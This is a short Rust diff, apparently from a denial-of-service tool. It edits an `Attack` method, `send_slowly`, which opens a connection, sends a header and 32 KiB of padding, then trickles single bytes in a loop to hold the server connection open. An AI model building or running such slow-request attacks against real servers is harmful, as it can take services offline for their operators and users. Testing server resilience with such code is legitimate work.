@@ -94,7 +94,7 @@ impl Attack {
     async fn send_slowly(&self) -> Result<()> {
         let mut stream = self.connect().await?;
         stream.write_all(SLOW_HEAD.as_bytes()).await?;
-        stream.write_all(&[b' '; 32 * 1024]).await?;
+        stream.write_all(&vec![b' '; 32 * 1024]).await?;
         loop {
             stream.write_all(b" ").await?;
             stream.flush().await?;
